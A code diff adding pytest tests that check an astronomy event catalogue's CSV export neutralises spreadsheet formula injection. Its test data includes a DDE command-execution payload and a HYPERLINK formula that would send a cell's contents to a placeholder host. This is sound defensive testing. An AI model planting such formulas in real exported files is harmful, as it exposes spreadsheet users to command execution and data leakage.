@@ -9,7 +9,7 @@ from dataclasses import replace
 import astropy.units as u
 import numpy as np
 import pytest
-from astropy.table import Table
+from astropy.table import Column, Table
 from astropy.time import Time
 from helpers import CONTRACT_QUANTITIES
 
@@ -169,3 +169,82 @@ def test_empty_catalogue_gives_header_only():
         back["heavier_mass"].unit is None or back["heavier_mass"].unit == u.dimensionless_unscaled
     )
     assert write_csv(table).decode().count("\n") == 1
+
+
+# --- formula injection: text cells a spreadsheet would run are written as text ----------------
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "-",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "==",
+]
+HARMLESS = ["A-B pair", "5-7 solar masses", "x=1", "a@b", "'already text", "", " =1"]
+
+
+def _csv_rows(table) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(write_csv(table).decode(), newline="")))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+@pytest.mark.parametrize("field", ["id", "title", "status"])
+def test_csv_event_text_starting_a_formula_is_written_as_text(derived, field, text):
+    item = derived[0]
+    odd = replace(item, event=replace(item.event, **{field: text}))
+    table = catalogue_table([odd])
+    (row,) = _csv_rows(table)
+    assert row[field] == "'" + text.replace("\r", "\n")
+    if text == text.strip():  # astropy's reader strips a cell's outer white space
+        back = Table.read(write_ecsv(table).decode(), format="ascii.ecsv")
+        assert back[field][0] == text  # the ECSV (read by astropy, not spreadsheets) is as given
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_derived_and_later_text_columns_are_neutralised_too(derived, text):
+    item = derived[0]
+    table = catalogue_table([replace(item, source_class=text)])
+    table["note"] = Column([text], dtype=str)  # a text column added after this was written
+    (row,) = _csv_rows(table)
+    expected = "'" + text.replace("\r", "\n")
+    assert row["source_class"] == expected and row["note"] == expected
+
+
+@pytest.mark.parametrize("text", ["two\rlines", "two\r\nlines", "two\nlines", "\r", "\n=1"])
+def test_csv_line_breaks_in_text_keep_the_row_whole(derived, text):
+    item = derived[0]
+    table = catalogue_table([replace(item, event=replace(item.event, title=text)), item])
+    rows = _csv_rows(table)
+    assert [r["id"] for r in rows] == [item.event.id, item.event.id]
+    title = rows[0]["title"]
+    assert title.lstrip("'") == text.replace("\r\n", "\n").replace("\r", "\n")
+    assert title.startswith("'") == text.startswith(("\r", "\n"))
+    assert rows[1]["heavier_mass [solMass]"] == repr(item.quantities["heavier_mass"].median)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_csv_harmless_text_is_unchanged(derived, text):
+    item = derived[0]
+    (row,) = _csv_rows(catalogue_table([replace(item, event=replace(item.event, title=text))]))
+    assert row["title"] == text
+
+
+def test_csv_negative_numbers_stay_numbers(derived):
+    table = catalogue_table(derived[:1])
+    table["effective_spin"][0] = -0.25
+    table["effective_spin_low"][0] = -1e-300
+    text = write_csv(table).decode()
+    (row,) = _csv_rows(table)
+    assert row["effective_spin"] == "-0.25" and float(row["effective_spin_low"]) == -1e-300
+    assert "'-" not in text and "'" + str(derived[0].event.time.utc.isot) not in text
+    assert float(row["heavier_mass [solMass]"]) == derived[0].quantities["heavier_mass"].median
+
+
+def test_csv_demo_has_no_quoted_cells_and_ecsv_is_untouched(derived):
+    text = write_csv(catalogue_table(derived)).decode()
+    assert ",'" not in text and "\n'" not in text  # nothing in the demo looks like a formula
